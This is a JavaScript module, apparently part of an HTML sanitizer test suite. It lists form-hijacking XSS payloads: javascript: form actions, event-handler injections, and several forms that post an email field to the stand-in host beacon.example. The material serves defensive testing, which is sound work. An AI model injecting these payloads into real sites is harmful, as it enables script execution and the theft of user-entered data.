import { asMarkup } from '../careless.mjs';

/** @type {import('../techniques.mjs').Technique} */
export default {
  name: 'forms that are taken over',
  control: asMarkup,
  payloads: [
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form action="https://beacon.example/post" method=post><input name=email><button>x</button></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<form><input type=submit formaction="javascript:alert(1)" value=x></form>',
    '<form id=stolen action="javascript:alert(1)"></form><button form=stolen>x</button>',
    '<input type=image src=x onerror=alert(1)>',
    '<input type=image src=https://beacon.example/input.png>',
    '</form><form action="javascript:alert(1)"><button>x</button>',
    '<button form="klipp-form" formaction="https://beacon.example/f" formmethod="get">x</button>',
    '<form target="_top" action="https://beacon.example/top"><button>x</button></form>',
    '<form method=dialog><button>x</button></form><form><button formaction="JavaScript:alert(1)">y</button></form>',
    '<isindex action="javascript:alert(1)" type=image><img src=x onerror=alert(1)>',
    '<keygen autofocus onfocus=alert(1)>',
    '<input type=hidden name=email value=stolen@beacon.example>',
    '<input name=email value=a@b.example form=other autofocus onfocus=alert(1)>',
    '<textarea name=notes form="f">',
    '<output onclick=alert(1)>x</output>',
    '<label for="klipp-email" onclick=alert(1)>x</label>',
    '<form><input name=action><input name=submit><button formaction=javascript:alert(1)>x</button></form>',
    '<button type=submit popovertarget=x formaction="javascript:alert(1)" form=g>x</button><form id=g></form>',
  ],
};
